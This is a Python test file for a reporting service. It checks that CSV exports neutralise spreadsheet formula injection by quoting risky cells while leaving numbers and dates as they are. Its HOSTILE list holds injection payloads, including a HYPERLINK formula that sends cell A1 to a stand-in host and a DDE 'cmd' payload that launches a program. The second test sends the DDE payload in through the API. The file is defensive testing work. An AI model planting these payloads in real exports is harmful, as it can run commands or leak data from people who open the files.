"""CSV exports neutralise text a spreadsheet would run as a formula (OWASP CSV injection), while
the service's own numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

from tests.conftest import Walker
from workflows.reporting import exports

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_text_cells_starting_with_a_formula_lead_get_a_quote_numbers_do_not() -> None:
    rows = [(n, text, -3, 2.5, date(2022, 9, 1), "平常文字") for n, text in enumerate(HOSTILE)]
    cols = [exports.Column(h) for h in ("编号", "内容", "超期", "比例", "日期", "备注")]
    sheet = exports.Sheet("测试", cols, iter(rows))
    table = _read(b"".join(exports.csv_chunks(sheet)))
    assert table[0] == ["编号", "内容", "超期", "比例", "日期", "备注"]
    for text, row in zip(HOSTILE, table[1:], strict=True):
        assert row[1] == "'" + text
        assert row[2] == "-3" and row[3] == "2.5"  # numbers the service writes stay numbers
        assert row[4] == "2022-09-01" and row[5] == "平常文字"


def test_an_opinion_typed_as_a_formula_reaches_the_csv_neutralised(walker: Walker, clock) -> None:
    event, _ = walker.held_event()
    r = walker.move(
        event["id"],
        "collect_feedback",
        data={"items": [{"content": c} for c in ("=cmd|' /C calc'!A0", "普通意见")]},
    )
    assert r.status_code == 200, r.text
    r = walker.client.get(
        "/api/v1/exports/opinions.csv", headers=walker.world.headers["supervisor"]
    )
    assert r.status_code == 200, r.text
    table = _read(r.content)
    contents = {row[table[0].index("意见内容")] for row in table[1:]}
    assert contents == {"'=cmd|' /C calc'!A0", "普通意见"}
